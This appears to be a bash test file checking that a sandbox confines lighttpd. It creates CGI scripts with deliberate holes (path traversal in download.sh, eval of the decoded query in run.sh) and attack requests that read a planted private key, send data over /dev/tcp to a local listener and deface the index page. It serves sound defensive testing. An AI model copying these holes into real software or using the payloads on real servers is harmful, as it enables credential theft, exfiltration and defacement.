#!/usr/bin/env bash
# lighttpd under a policy: serves its site, and neither a link nor a script leads out of it.
. tests/programs/lib.sh

set_up() {
  mkdir -p site/www site/cgi site/log
  export SITE=$PWD/site
  printf 'welcome\n' >site/www/index.html
  printf 'my key\n' >home/id_rsa
  # What a mistaken or malicious deployment left in the document root.
  ln -s "$HOME/id_rsa" site/www/backup.txt
  # A download script that trusts its parameter.
  cat >site/cgi/download.sh <<'END'
#!/bin/bash
printf 'Content-Type: text/plain\n\n'
exec cat "$SITE/www/$QUERY_STRING"
END
  # A script with a hole: it runs its parameter, decoded.
  cat >site/cgi/run.sh <<'END'
#!/bin/bash
printf 'Content-Type: text/plain\n\n'
query=${QUERY_STRING//+/ }
eval "$(printf '%b' "${query//%/\\x}")" 2>&1
END
  chmod +x site/cgi/*.sh
}

# Serves the site: serve sandboxed|unsandboxed.
serve() {
  PORT=$(free_port lighttpd)
  export PORT
  cat >site/lighttpd.conf <<END
server.document-root = "$SITE/www"
server.bind = "127.0.0.1"
server.port = $PORT
server.errorlog = "$SITE/log/error.log"
server.modules = ("mod_cgi", "mod_alias", "mod_setenv", "mod_indexfile", "mod_staticfile")
index-file.names = ("index.html")
alias.url = ("/cgi/" => "$SITE/cgi/")
cgi.assign = (".sh" => "")
setenv.set-environment = ("SITE" => "$SITE", "PATH" => "/usr/bin:/bin")
END
  start "$1" lighttpd -D -f site/lighttpd.conf
  wait_until is_listening "$PORT"
}

get() {
  unsandboxed curl -sS --max-time 10 --path-as-is "http://127.0.0.1:$PORT$1"
}

test_pages_and_scripts_are_served() {
  serve sandboxed
  expect_success get /
  expect_output welcome
  expect_success get '/cgi/download.sh?index.html'
  expect_output welcome
}

test_a_link_in_the_document_root_leads_nowhere() {
  serve sandboxed
  expect_success get /backup.txt
  expect_no_output_of 'my key'
  stop "$started"
  serve unsandboxed
  expect_success get /backup.txt
  expect_output 'my key'
}

test_a_script_cannot_read_beside_the_site() {
  local attack='/cgi/download.sh?../../home/id_rsa'
  serve sandboxed
  expect_success get "$attack"
  expect_no_output_of 'my key'
  stop "$started"
  serve unsandboxed
  expect_success get "$attack"
  expect_output 'my key'
}

test_a_script_cannot_connect_anywhere() {
  start_listener
  local attack="/cgi/run.sh?echo+stolen+%3E/dev/tcp/127.0.0.1/$port"
  serve sandboxed
  expect_success get "$attack"
  expect_output 'Permission denied'
  expect_missing received
  stop "$started"
  serve unsandboxed
  expect_success get "$attack"
  wait_until grep -q stolen received
}

test_a_script_cannot_write_beside_the_log() {
  local attack="/cgi/run.sh?echo+defaced+%3E$SITE/www/index.html"
  serve sandboxed
  expect_success get "$attack"
  expect_output 'Permission denied'
  expect_content site/www/index.html welcome
  stop "$started"
  serve unsandboxed
  expect_success get "$attack"
  expect_content site/www/index.html defaced
}

# The settings ask for another port than the policy grants.
test_no_other_port_can_be_bound() {
  local other
  serve sandboxed
  stop "$started"
  other=$((PORT - 1))
  sed -i "s/^server.port = .*/server.port = $other/" site/lighttpd.conf
  expect_failure sandboxed lighttpd -D -f site/lighttpd.conf
  expect_output "Permission denied"
  # lighttpd itself has no option that checks this, so the control serves.
  start unsandboxed lighttpd -D -f site/lighttpd.conf
  wait_until is_listening "$other"
}

workload() {
  printf 'about us\n' >site/www/about.html
  serve sandboxed
  expect_success get /about.html
  expect_success get '/cgi/download.sh?about.html'
  expect_success get '/cgi/run.sh?echo+hello'
  stop "$started"
}

run_cases
